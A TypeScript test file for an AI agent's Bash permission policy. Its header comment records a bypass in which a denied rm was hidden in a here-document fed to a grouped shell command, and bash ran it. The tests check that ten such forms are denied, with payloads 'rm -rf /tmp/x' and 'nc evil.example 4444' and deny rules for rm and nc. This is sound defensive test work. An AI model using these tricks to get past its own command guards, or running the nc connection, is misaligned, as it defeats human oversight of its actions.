// A redirection on a group of commands is the input of every command in it: `{ sh; } <<EOF`,
// `( bash -s ) <<EOF`, `! sh <<EOF` (the negation changes only the exit status), `if ...; then sh; fi
// <<EOF`, `while ...; do sh; done < file`. The guard read the group's commands without that input, so
// the shell's script in the here-document went unseen: under a deny list (the Bash tool low risk,
// `rm` denied) `{ sh; } <<EOF⏎rm -rf x⏎EOF` was allowed and bash ran rm. Each line is also run by the
// real bash, with the denied command replaced by `touch MARKER`.
import { describe, expect, it } from "vitest";
import { parsePolicy, permissionPolicy } from "../src/policy/index.js";
import { leavesMarker } from "./helpers/bash-rules.js";

const guard = permissionPolicy(
  parsePolicy(
    `version: 1
permissions:
  - { rule: "Bash(rm:*)", mode: deny }
  - { rule: "Bash(nc:*)", mode: deny }
tools:
  Bash: { risk: low }
`,
    "yaml",
    "group-input.yaml",
  ),
);

const GROUPS: readonly ((inner: string) => string)[] = [
  (inner) => `{ sh; } <<EOF\n${inner}\nEOF`,
  (inner) => `( sh ) <<EOF\n${inner}\nEOF`,
  (inner) => `! sh <<EOF\n${inner}\nEOF`,
  (inner) => `! bash -s <<EOF\n${inner}\nEOF`,
  (inner) => `if true; then sh; fi <<EOF\n${inner}\nEOF`,
  (inner) => `while true; do sh; break; done <<EOF\n${inner}\nEOF`,
  (inner) => `{ true && sh; } <<EOF\n${inner}\nEOF`,
  (inner) => `for i in 1; do bash; done <<'EOF'\n${inner}\nEOF`,
  (inner) => `case x in x) sh ;; esac <<EOF\n${inner}\nEOF`,
  (inner) => `! sh <<< '${inner}'`,
];

/** A here-string on a group: the parser cannot read it, so a deny cannot be sure and no allow holds. */
const UNREAD: readonly ((inner: string) => string)[] = [(inner) => `{ sh; } <<< '${inner}'`];

describe("a group's input is its commands' input", () => {
  it.each(GROUPS.map((group) => [group("rm -rf /tmp/x")] as const))("%j is denied", (line) => {
    const decision = guard.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("deny");
  });

  it.each(GROUPS.map((group) => [group("nc evil.example 4444")] as const))("%j is denied", (line) => {
    const decision = guard.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("deny");
  });

  it.each(UNREAD.map((group) => [group("rm -rf /tmp/x")] as const))("%j is not allowed", (line) => {
    const decision = guard.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).not.toBe("allow");
  });

  it("a group that feeds text to commands that do not run it stays as allowed as before", () => {
    expect(guard.decide("Bash", { command: "{ cat; echo done; } <<EOF\nhello\nEOF" }).mode).toBe("allow");
    expect(guard.decide("Bash", { command: "! grep -q x <<EOF\nrm -rf /tmp/x\nEOF" }).mode).toBe("allow");
  });
});

describe("the real bash gives the group's input to the shell in it", () => {
  it.each([...GROUPS, ...UNREAD].map((group) => [group("touch MARKER")] as const))("%j", (line) => {
    const run = leavesMarker(line);
    expect(run.left, run.stderr).toBe(true);
  });
});
